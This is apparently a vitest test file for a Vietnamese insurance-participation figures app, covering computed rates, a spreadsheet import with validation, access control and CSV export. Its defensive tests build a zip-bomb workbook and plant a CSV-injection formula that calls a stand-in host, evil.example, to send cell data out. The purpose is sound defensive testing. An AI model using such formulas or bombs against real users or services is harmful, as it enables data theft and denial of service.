/**
 * Participation figures: rates computed, never typed; the spreadsheet import (template, preview
 * with row-by-row Vietnamese errors, all or nothing) and the export, through the REST routes.
 */
import { REST_GET, REST_POST } from '@payloadcms/next/routes'
import ExcelJS from 'exceljs'
import type { Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { IMPORT_COLUMNS, MAX_IMPORT_ROWS } from '../../src/domain/indicatorImport'
import { writeSheet } from '../../src/lib/spreadsheets'
import { expectFieldError, idByName, seededPayload, userByEmail } from '../helpers'
import { repetitiveZipEntry, SHEET_CLOSE, SHEET_OPEN, workbookParts, zipArchive } from '../zipFiles'

let payload: Payload
let restPost: ReturnType<typeof REST_POST>
let restGet: ReturnType<typeof REST_GET>
const tokens: Record<string, string> = {}

const params = (path: string) => ({ params: Promise.resolve({ slug: path.replace(/^\/api\//, '').split('?')[0].split('/') }) })

async function login(email: string) {
  const res = await restPost(
    new Request('http://localhost/api/users/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email, password: 'loa-demo-2026' }) }),
    params('/api/users/login'),
  )
  return ((await res.json()) as { token: string }).token
}

beforeAll(async () => {
  payload = await seededPayload()
  const config = import('../../payload.config').then((m) => m.default)
  restPost = REST_POST(config)
  restGet = REST_GET(config)
  tokens.evaluator = await login('evaluator@demo.loa')
  tokens.coordinator = await login('ldld@demo.loa')
})
afterAll(async () => {
  await payload?.destroy()
})

async function upload(file: Buffer, name: string, { commit = false, as = 'evaluator' } = {}) {
  const form = new FormData()
  form.append('file', new Blob([new Uint8Array(file)]), name)
  const path = `/api/indicators/import${commit ? '?commit=true' : ''}`
  const res = await restPost(new Request(`http://localhost${path}`, { method: 'POST', headers: { authorization: `JWT ${tokens[as]}` }, body: form }), params(path))
  return { status: res.status, body: (await res.json()) as { errors?: { message: string }[]; committed?: boolean; created?: number; updated?: number; rows?: { row: number }[]; problems: { row: number | null; column: string | null; message: string }[] } }
}
async function get(path: string) {
  const res = await restGet(new Request(`http://localhost${path}`, { headers: { authorization: `JWT ${tokens.evaluator}` } }), params(path))
  return res
}

const counts = { population: 40_000, labourForce: 25_000, bhytParticipants: 38_400, bhxhCompulsory: 12_000, bhxhVoluntary: 1_500, bhtnParticipants: 11_000 }
const sheetRows = (rows: Record<string, unknown>[]) => writeSheet('xlsx', 'So lieu', IMPORT_COLUMNS, rows)
const total = async () => (await payload.count({ collection: 'indicators' })).totalDocs

describe('figures typed in', () => {
  it('rates are computed from the counts whatever is sent, and impossible figures are refused', async () => {
    const locality = await idByName(payload, 'localities', 'Phường Kiến An')
    const evaluator = { ...(await userByEmail(payload, 'evaluator@demo.loa')), collection: 'users' as const }
    const doc = await payload.create({
      collection: 'indicators',
      data: { locality, year: 2026, period: 'h2', ...counts, bhytCoverage: 12 } as never,
      overrideAccess: false,
      user: evaluator,
    })
    expect(doc.bhytCoverage).toBe(96)
    expect(doc.bhxhParticipation).toBe(54)
    await expectFieldError(
      payload.create({ collection: 'indicators', data: { locality, year: 2027, period: 'h2', ...counts, bhytParticipants: 41_000 } as never, overrideAccess: false, user: evaluator }),
      'bhytParticipants',
      'Số người tham gia BHYT (41000) lớn hơn dân số (40000).',
    )
    await expectFieldError(
      payload.create({ collection: 'indicators', data: { locality, year: 2026, period: 'h2', ...counts } as never, overrideAccess: false, user: evaluator }),
      'period',
      /Đã có số liệu/,
    )
  })
})

describe('the spreadsheet import', () => {
  it('offers a template whose header row is the import’s columns', async () => {
    const res = await get('/api/indicators/template')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toContain('spreadsheetml')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await res.arrayBuffer())
    const header = (workbook.worksheets[0].getRow(1).values as unknown[]).slice(1)
    expect(header).toEqual(IMPORT_COLUMNS.map((c) => c.header))
  })

  it('lists every problem by row in Vietnamese and stores nothing, even with commit', async () => {
    const before = await total()
    const csv = Buffer.from(
      [
        IMPORT_COLUMNS.map((c) => c.header).join(';'),
        'Phường Lê Chân;2026;H1;52.100;30.000;50.000;15.000;1.200;14.000;',
        'Phường Không Tồn Tại;2026;H1;1000;600;900;300;10;280;',
        'Phường Hải An;2026;H1;1000;600;1200;300;10;280;',
      ].join('\r\n'),
    )
    const { status, body } = await upload(csv, 'so-lieu.csv', { commit: true })
    expect(status).toBe(400)
    expect(body.committed).toBe(false)
    expect(body.problems).toEqual([
      { row: 3, column: 'Xã, phường, đặc khu', message: 'Không có xã, phường, đặc khu tên "Phường Không Tồn Tại" trong danh mục 114 đơn vị.' },
      { row: 4, column: 'Số người tham gia BHYT', message: 'Số người tham gia BHYT (1200) lớn hơn dân số (1000).' },
    ])
    expect(await total()).toBe(before)
  })

  it('previews a clean file, then writes it all; a second file replaces the same communes’ figures', async () => {
    const before = await total()
    const rows = [
      { commune: 'Phường Lê Chân', year: 2027, period: 'H1', ...counts },
      { commune: 'xa an hung', year: 2027, period: 'Năm', ...counts, population: 50_000 },
    ]
    const file = await sheetRows(rows)
    const preview = await upload(file, 'so-lieu.xlsx')
    expect(preview.status).toBe(200)
    expect(preview.body.committed).toBe(false)
    expect(preview.body.rows).toHaveLength(2)
    expect(await total()).toBe(before)

    const committed = await upload(file, 'so-lieu.xlsx', { commit: true })
    expect(committed.body).toMatchObject({ committed: true, created: 2, updated: 0 })
    expect(await total()).toBe(before + 2)

    const again = await upload(await sheetRows([{ ...rows[0], bhytParticipants: 39_000 }]), 'so-lieu-sua.xlsx', { commit: true })
    expect(again.body).toMatchObject({ committed: true, created: 0, updated: 1 })
    const leChan = await idByName(payload, 'localities', 'Phường Lê Chân')
    const { docs } = await payload.find({ collection: 'indicators', where: { and: [{ locality: { equals: leChan } }, { year: { equals: 2027 } }, { period: { equals: 'h1' } }] } })
    expect(docs).toHaveLength(1)
    expect(docs[0].bhytCoverage).toBe(97.5)
    expect(docs[0].source).toBe('import')
  })

  it('is for Sở Nội vụ and admins only; a file that is not a spreadsheet is refused', async () => {
    const before = await total()
    const refused = await upload(await sheetRows([{ commune: 'Phường Lê Chân', year: 2028, period: 'H1', ...counts }]), 'x.xlsx', { commit: true, as: 'coordinator' })
    expect(refused.status).toBe(403)
    const wrong = await upload(Buffer.from('%PDF-1.4 not a sheet'), 'so-lieu.pdf')
    expect(wrong.status).toBe(400)
    const broken = await upload(Buffer.from('PK\u0003\u0004 broken zip'), 'so-lieu.xlsx')
    expect(broken.status).toBe(400)
    expect(await total()).toBe(before)
  })

  it('a 100 KB workbook that unpacks to 100 MB is refused before it is unpacked (413), and so is one lying about its sizes; nothing is stored', async () => {
    const before = await total()
    const sheet = await repetitiveZipEntry('xl/worksheets/sheet1.xml', SHEET_OPEN, ' ', 100 * 1024 * 1024, SHEET_CLOSE)
    const bomb = zipArchive(workbookParts(sheet))
    expect(bomb.length).toBeLessThan(200 * 1024)
    const refused = await upload(bomb, 'so-lieu.xlsx', { commit: true })
    expect(refused.status).toBe(413)
    expect(refused.body.errors?.[0].message).toMatch(/^Tệp Excel khi giải nén lớn 100,\d MB, vượt giới hạn 10 MB/)
    const lying = await upload(zipArchive(workbookParts({ ...sheet, declaredSize: 2048 })), 'so-lieu.xlsx', { commit: true })
    expect(lying.status).toBe(400)
    expect(lying.body.errors?.[0].message).toMatch(/khai sai kích thước/)
    expect(await total()).toBe(before)
  })

  it('a tiny workbook with one cell on its last row (1 048 576) or a CSV one row too long is refused at once, not read row by row', async () => {
    const before = await total()
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('So lieu')
    sheet.addRow(IMPORT_COLUMNS.map((c) => c.header))
    sheet.getCell('A1048576').value = 'Phường Lê Chân'
    const started = Date.now()
    const far = await upload(Buffer.from(await workbook.xlsx.writeBuffer()), 'so-lieu.xlsx', { commit: true })
    expect(far.status).toBe(413)
    expect(far.body.errors?.[0].message).toMatch(/^Bảng tính dài hơn 5.001 dòng \(kể cả dòng tiêu đề\)/)
    expect(Date.now() - started).toBeLessThan(3000)

    const line = 'Phường Lê Chân;2029;H1;52100;30000;50000;15000;1200;14000;'
    const csv = (rows: number) => Buffer.from([IMPORT_COLUMNS.map((c) => c.header).join(';'), ...Array(rows).fill(line)].join('\r\n'))
    const long = await upload(csv(MAX_IMPORT_ROWS + 1), 'so-lieu.csv', { commit: true })
    expect(long.status).toBe(413)
    // The longest file allowed is read, and its rows checked (here: the same commune 5000 times).
    const longest = await upload(csv(MAX_IMPORT_ROWS), 'so-lieu.csv')
    expect(longest.status).toBe(400)
    expect(longest.body.problems.length).toBeGreaterThan(0)
    expect(longest.body.problems[0].message).not.toMatch(/dài hơn/)
    expect(await total()).toBe(before)
  })

  it('exports the figures with their rates, as CSV that Excel reads in Vietnamese', async () => {
    const res = await get('/api/indicators/export?year=2027&period=h1&format=csv')
    expect(res.status).toBe(200)
    const bytes = Buffer.from(await res.arrayBuffer())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // the BOM that makes Excel read UTF-8
    const [header, ...lines] = bytes.subarray(3).toString('utf8').trim().split('\r\n')
    expect(header).toContain('Tỷ lệ bao phủ BHYT (% dân số)')
    expect(lines).toHaveLength(1)
    expect(lines[0]).toMatch(/^Phường Lê Chân,2027,H1,40000,25000,39000,12000,1500,11000,.*,97\.5,54,48,6,44$/)
  })

  it('a note typed as a formula reaches the evaluator’s Excel as text, never as a formula (OWASP CSV injection)', async () => {
    const locality = await idByName(payload, 'localities', 'Phường Hải An')
    await payload.create({
      collection: 'indicators',
      data: { locality, year: 2029, period: 'h1', ...counts, note: '=HYPERLINK("http://evil.example/?d="&A2;"Xem")' } as never,
    })
    const res = await get('/api/indicators/export?year=2029&period=h1&format=csv')
    const [, line] = Buffer.from(await res.arrayBuffer()).subarray(3).toString('utf8').trim().split('\r\n')
    // The quote before "=" keeps it text; the counts after it are still plain numbers.
    expect(line).toMatch(/^Phường Hải An,2029,H1,40000,25000,38400,12000,1500,11000,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A2;""Xem""\)",96,/)
  })
})
